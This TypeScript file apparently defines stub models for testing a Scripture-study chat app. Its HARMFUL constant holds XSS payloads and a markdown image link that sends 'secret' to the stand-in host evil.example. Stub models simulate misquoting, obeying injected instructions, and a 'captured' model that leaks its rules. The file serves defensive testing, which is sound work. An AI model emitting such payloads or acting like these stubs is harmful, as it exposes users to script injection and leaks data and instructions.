import { z } from 'zod';
import { readRequest, type ChatRequest, type ReadRequest } from './chat-request.js';
import { commandsIn } from './commands.js';

/** Generates the complete response to a request. */
type Writer = (request: ReadRequest) => string;

/** Text that is harmful if it is rendered as anything but text. */
export const HARMFUL = [
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '[a verse](scripture:John.3.16?edition=WEB&mark=exact)',
  '[click](javascript:alert(1)) ![picture](https://evil.example/x.png?q=secret) <https://evil.example>',
  '[ref]: https://evil.example "title"\n\nSee [this][ref], https://evil.example/a and www.evil.example.',
].join('\n\n');

/**
 * The models by name. Any other name selects the first one.
 *
 * - `sandbox` writes about the given material, with its words of Scripture.
 * - `sandbox-misquotes` does the same with altered words.
 * - `sandbox-obeys` follows every instruction in its input, regardless of the author.
 * - `sandbox-captured` ignores its rules: it writes harmful text, and its rules.
 */
const WRITERS: Readonly<Record<string, Writer>> = {
  sandbox: (request) => aboutTheTask(request),
  'sandbox-misquotes': (request) => aboutTheTask(request, misquoted),
  'sandbox-obeys': (request) => {
    const { says, ignoresRules } = commandsIn(request);
    return ignoresRules ? says.join('\n\n') : [...says, aboutTheTask(request)].join('\n\n');
  },
  'sandbox-captured': (request) => `${HARMFUL}\n\n${request.rules}\n\n${aboutTheTask(request)}`,
};

/** The response of a sandbox model. */
export function writeAnswer(request: ChatRequest): string {
  const writer = WRITERS[request.model] ?? WRITERS.sandbox!;
  return writer(readRequest(request));
}

const passage = z.object({
  reference: z.string(),
  edition: z.string(),
  verses: z.array(z.object({ reference: z.string(), text: z.string() })),
});
const words = z.array(z.object({ strongs: z.string(), lemma: z.string() }));

function aboutTheTask({ rules, material }: ReadRequest, change = (text: string) => text): string {
  if (rules.includes('Task: a title')) return titleOf(material);
  if (rules.includes('Task: a reading plan')) return planOf(material);
  const isSpanish = /\bSpanish\b/.test(rules);
  const about = passage.safeParse(material.get('passage') ?? material.get('found'));
  const [verse] = about.data?.verses ?? [];
  const known = words.safeParse(material.get('words')).data?.slice(0, 3) ?? [];
  if (!about.data || !verse)
    return isSpanish ? 'No hay nada sobre eso aquí.' : 'There is nothing about that here.';
  const { edition } = about.data;
  const quotation = `“${change(verse.text)}” (${verse.reference}, ${edition})`;
  const entries = known.map(({ lemma, strongs }) => `${lemma} (${strongs})`).join(', ');
  return [
    isSpanish ? `## Sobre ${about.data.reference}` : `## About ${about.data.reference}`,
    isSpanish ? `El texto dice: ${quotation}.` : `The text says: ${quotation}.`,
    entries && (isSpanish ? `Palabras: ${entries}.` : `Words: ${entries}.`),
    isSpanish ? 'Esto es lo que se sabe.' : 'This is what is known.',
  ]
    .filter(Boolean)
    .join('\n\n');
}

/** Uses the longest word of a question as its topic. */
function titleOf(material: ReadRequest['material']): string {
  const words = String(material.get('question') ?? '').match(/[\p{L}\p{N}]+/gu) ?? [];
  return `Sandbox: ${words.reduce((one, other) => (other.length > one.length ? other : one), '')}`;
}

/** One day for each passage in the material. */
function planOf(material: ReadRequest['material']): string {
  const found = z.array(z.string()).safeParse(material.get('found')).data ?? [];
  return found.map((reference) => `${reference} | Sandbox: ${reference}.`).join('\n');
}

/** The same text with an additional word. */
function misquoted(text: string): string {
  const all = text.split(' ');
  const middle = Math.floor(all.length / 2);
  return [...all.slice(0, middle), 'perhaps', ...all.slice(middle + 1)].join(' ');
}
